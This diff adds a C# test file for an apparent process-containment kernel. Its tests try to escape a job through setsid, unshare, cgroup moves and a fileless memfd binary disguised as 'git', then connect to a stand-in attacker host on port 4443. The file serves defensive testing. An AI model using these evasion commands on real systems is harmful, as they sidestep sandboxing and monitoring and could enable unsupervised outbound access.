@@ -1,0 +1,50 @@
+namespace Sallyport.Kernel.Tests;
+
+/// <summary>HARDENING rule 1: whatever a process of the job becomes, it stays one of the job.</summary>
+public sealed class LineageTests(LabFixture fixture) : KernelTest(fixture)
+{
+    [Theory]
+    [EveryMode("thread", "sibling")]
+    public Task No_unusual_birth_leaves_the_job(LabMode mode, string how) => ProveAsync(mode, Connecting(
+        $"{Program("proc")} {how} {Program("tcp")} connect {Attacker} 4443 {Canary}; true"));
+
+    [Theory]
+    [EveryMode("setsid --wait", "env -i", "unshare --user --map-root-user --pid --fork", "unshare --mount --ipc --uts")]
+    public Task No_session_environment_or_namespace_leaves_the_job(LabMode mode, string how) => ProveAsync(
+        mode, Connecting($"{how} {Program("tcp")} connect {Attacker} 4443 {Canary}; true"));
+
+    [Theory]
+    [EveryMode]
+    public Task A_process_that_moves_to_another_cgroup_stays_in_the_job(LabMode mode) => ProveAsync(mode, Connecting(
+        $"mkdir {Lab.CgroupRoot}/{Canary} && echo $$ > {Lab.CgroupRoot}/{Canary}/cgroup.procs",
+        $"{Program("tcp")} connect {Attacker} 4443 {Canary} || true",
+        $"echo $$ > {Lab.CgroupRoot}/cgroup.procs && rmdir {Lab.CgroupRoot}/{Canary}"));
+
+    [Theory]
+    [EveryMode]
+    public Task A_program_without_a_file_name_is_judged(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Command(
+            "/usr/bin/python3",
+            "-c",
+            $"""
+            import os
+            f = os.memfd_create("gone", 0)
+            os.write(f, open("{Program("tcp")}", "rb").read())
+            os.execv("/proc/self/fd/%d" % f, ["git", "connect", "{Attacker}", "4443", "{Canary}"])
+            """),
+        Row = Row.Connection("tcp", 4443, Attacker),
+        Reasons = ["no-rule"],
+        Exe = "memfd:gone",
+        Silent = (Attacker, 4443),
+    });
+
+    private static Attack Connecting(params string[] lines) => new()
+    {
+        Command = Script(lines),
+        Row = Row.Connection("tcp", 4443, Attacker),
+        Reasons = ["no-rule"],
+        Exe = "tcp",
+        Silent = (Attacker, 4443),
+    };
+}
